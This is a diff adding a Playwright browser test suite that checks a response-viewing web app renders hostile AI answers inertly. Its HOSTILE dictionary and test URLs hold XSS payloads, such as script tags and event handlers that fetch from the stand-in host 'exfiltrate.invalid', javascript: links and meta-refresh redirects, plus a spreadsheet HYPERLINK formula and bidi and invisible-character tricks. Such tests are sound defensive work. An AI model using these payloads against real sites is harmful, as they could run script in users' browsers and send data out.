@@ -1,0 +1,183 @@
+"""Answers that try something: shown inert, nothing leaves this machine, nothing runs, and the page stays usable."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, Page, Route, WebSocket, expect
+
+from em_core.home import Home
+from em_core.labels import Desk
+from em_core.records import JudgeIdentity, Judgement, QuestionRow
+from em_core.store.publish import publish
+from tests.browser.conftest import assert_no_error, serve, settle, shoot
+from tests.responses import made_answers
+from tests.responses.made_answers import J, answer
+from tests.store import made
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+RUNS = "window.hacked = (window.hacked || 0) + 1"
+AWAY = "http://exfiltrate.invalid"
+HOSTILE = {
+    "script": f"<script>{RUNS}; fetch('{AWAY}/script')</script>",
+    "handlers": f"<img src={AWAY}/img.png onerror=\"{RUNS}\"><svg onload=\"{RUNS}\"><iframe src='{AWAY}/frame'></iframe>",
+    "markdown image": f"![alt]({AWAY}/md.png) [link]({AWAY}/l) # heading **bold** `code` $x^2$ :red[red] :material/home:",
+    "links": f"[a](javascript:{RUNS}) <a href='javascript:{RUNS}'>b</a> <base href='{AWAY}'> <meta http-equiv=refresh content='0;{AWAY}'>",
+    "style": f"<style>* {{ display: none !important; background: url({AWAY}/css) }}</style>",
+    "ansi": "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;http://exfiltrate.invalid\x07link\x1b]8;;\x07",
+    "direction": "before \u202eevil\u202c after \u2067isolate\u2069 \u200fmark",
+    "nul and invisible": "a\x00b\u200bc\ufeffd\u00ade\U000e0041f",
+    "accents": "Z" + "\u0301" * 3000 + " end of the tower",
+    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> </textarea></template>-->",
+    "one line of 5 MB": "w" * 5_000_000,
+    "many lines": "\n" * 20_000 + "the end",
+    "a formula": "=HYPERLINK(\"http://exfiltrate.invalid\";\"x\")",
+}  # fmt: skip
+
+
+def make_home(root: Path) -> Home:
+    """Every hostile text as an answer, as a judge's reply, as a question and as a name."""
+    answers = [answer("run-a", 20, f"q{i}", 0, text, "") for i, text in enumerate(HOSTILE.values())]
+    home = made_answers.make_home(root, answers)
+    bad = " ".join(text for text in HOSTILE.values() if len(text) < 1000)
+    made.write(home, "run-a", JudgeIdentity("evil " + bad[:300], "made", bad, "integer", "", "{}", ""))
+    for i, one in enumerate(answers):
+        made.write(
+            home,
+            "run-a",
+            QuestionRow("general", "0", f"q{i}", 0, bad, f"Question {i}? {bad}", "", "free_form"),
+            Judgement(
+                one.response_id, "evil " + bad[:300], "alignment", 5.0, None, one.text[:50_000], f'{{"{AWAY}": 0.5}}', 1, 1
+            ),
+        )
+    publish(home)
+    return home
+
+
+class Watch:
+    """Every request and dialog of a page; anything that is not the server itself is stopped and noted."""
+
+    def __init__(self, page: Page, address: str) -> None:
+        self.away: list[str] = []
+        self.dialogs: list[str] = []
+        self.biggest = 0
+        self._host = urlsplit(address).netloc
+        page.route("**/*", self._request)
+        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
+        page.on("websocket", self._socket)
+        page.on("popup", lambda popup: self.away.append(f"popup {popup.url}"))
+
+    def _request(self, route: Route) -> None:
+        url = route.request.url
+        if urlsplit(url).netloc == self._host or url.startswith(("data:", "blob:")):
+            route.continue_()
+        else:
+            self.away.append(url)
+            route.abort()
+
+    def _socket(self, socket: WebSocket) -> None:
+        if urlsplit(socket.url).netloc != self._host:
+            self.away.append(socket.url)
+        socket.on("framereceived", lambda payload: setattr(self, "biggest", max(self.biggest, len(payload))))
+
+    def assert_calm(self, page: Page) -> None:
+        """Nothing left, nothing ran, no message was big, and the page is as wide as the window."""
+        assert self.away == []
+        assert self.dialogs == []
+        assert page.evaluate("window.hacked") is None
+        assert self.biggest < 5_000_000, self.biggest
+        assert_no_error(page)
+        main = "document.querySelector('[data-testid=stMain]')"
+        assert page.evaluate(f"{main}.scrollWidth <= {main}.clientWidth")
+
+
+@pytest.fixture(scope="module")
+def home(tmp_path_factory: pytest.TempPathFactory) -> Home:
+    return make_home(tmp_path_factory.mktemp("hostile"))
+
+
+@pytest.fixture(scope="module")
+def address(home: Home) -> Iterator[str]:
+    with serve(home.root, EM_NO_SUPERVISOR="1") as found:
+        yield found
+
+
+@pytest.mark.parametrize("width", [1440, 420])
+def test_hostile_answers_side_by_side_are_inert_and_the_others_readable(address: str, browser: Browser, width: int) -> None:
+    page = browser.new_page(viewport={"width": width, "height": 1000})
+    watch = Watch(page, address)
+    for number in (1, 2):
+        page.goto(f"{address}/responses?column=run-a%4020&column=run-a%4010&judge={J}&page={number}")
+        settle(page)
+        page.wait_for_timeout(500)
+        watch.assert_calm(page)
+        shoot(page, f"responses-hostile-{number}-{'wide' if width > 1000 else 'narrow'}")
+        text = page.inner_text("[data-testid=stMain]")
+        if number == 1:
+            expect(page.get_by_text("run-a says at step 10 to q0: sample 0.", exact=True)).to_be_visible()
+            assert "<script>" in text
+            assert "![alt](http://exfiltrate.invalid/md.png)" in text
+    page.close()
+
+
+def test_every_hostile_text_alone_is_inert_and_hidden_characters_are_seen(address: str, browser: Browser) -> None:
+    page = browser.new_page(viewport={"width": 1440, "height": 1000})
+    watch = Watch(page, address)
+    for i, name in enumerate(HOSTILE):
+        page.goto(f"{address}/responses?response={answer('run-a', 20, f'q{i}', 0, '', '').response_id}")
+        settle(page)
+        watch.assert_calm(page)
+        text = page.inner_text("[data-testid=stMain]")
+        assert "Where it comes from" in text, name
+        for code in {"direction": ("⟪U+202E⟫",), "nul and invisible": ("⟪U+0000⟫", "⟪U+200B⟫"), "ansi": ("⟪U+001B⟫[2J",)}.get(
+            name, ()
+        ):
+            assert code in text, name
+        for character in ("\u202e", "\x00", "\x1b", "\u200b"):
+            assert character not in text, name
+    page.close()
+
+
+def test_list_search_figure_and_replies_are_inert(address: str, browser: Browser) -> None:
+    page = browser.new_page(viewport={"width": 1440, "height": 1000})
+    watch = Watch(page, address)
+    for path in (
+        f"view=list&of=everything+selected&judge={J}&search=exfiltrate",
+        f"view=list&column=run-a%4020&judge={J}&search=%3Cscript%3E%24%7Balert(1)%7D",
+        f"view=figure&column=run-a%4020&judge={J}",
+        f"view=figure&column=run-a%4020&judge={J}&question=q1",
+        f"column=run-a%4020&judge={J}&search=(%3Cimg&regex=true",
+        "response=%3Cscript%3Ealert(1)%3C/script%3E",
+        "column=%3Cimg%20src=x%20onerror=alert(1)%3E@5&question=%3Cscript%3E",
+    ):
+        page.goto(f"{address}/responses?{path}")
+        settle(page)
+        page.wait_for_timeout(500)
+        watch.assert_calm(page)
+    page.goto(f"{address}/responses?column=run-a%4020&judge={J}")
+    settle(page)
+    page.locator("[class*=st-key-said-] button").first.click()
+    expect(page.locator("[data-testid=stPopoverBody] [data-testid=stDataFrame]")).to_be_visible(timeout=20_000)
+    page.wait_for_timeout(500)
+    watch.assert_calm(page)
+    shoot(page, "responses-hostile-replies")
+    page.close()
+
+
+def test_labelling_hostile_answers_is_inert(home: Home, address: str, browser: Browser) -> None:
+    batch = Desk(home, "anna").draw(60, "random", run_ids=["run-a"])
+    page = browser.new_page(viewport={"width": 1440, "height": 1000})
+    watch = Watch(page, address)
+    page.goto(f"{address}/label?labeller=anna")
+    settle(page)
+    for done in range(1, len(batch.response_ids)):
+        watch.assert_calm(page)
+        page.keyboard.press("5")
+        expect(page.get_by_text(f"{done} of {len(batch.response_ids)}", exact=True)).to_be_visible(timeout=20_000)
+        settle(page)
+    watch.assert_calm(page)
+    page.close()
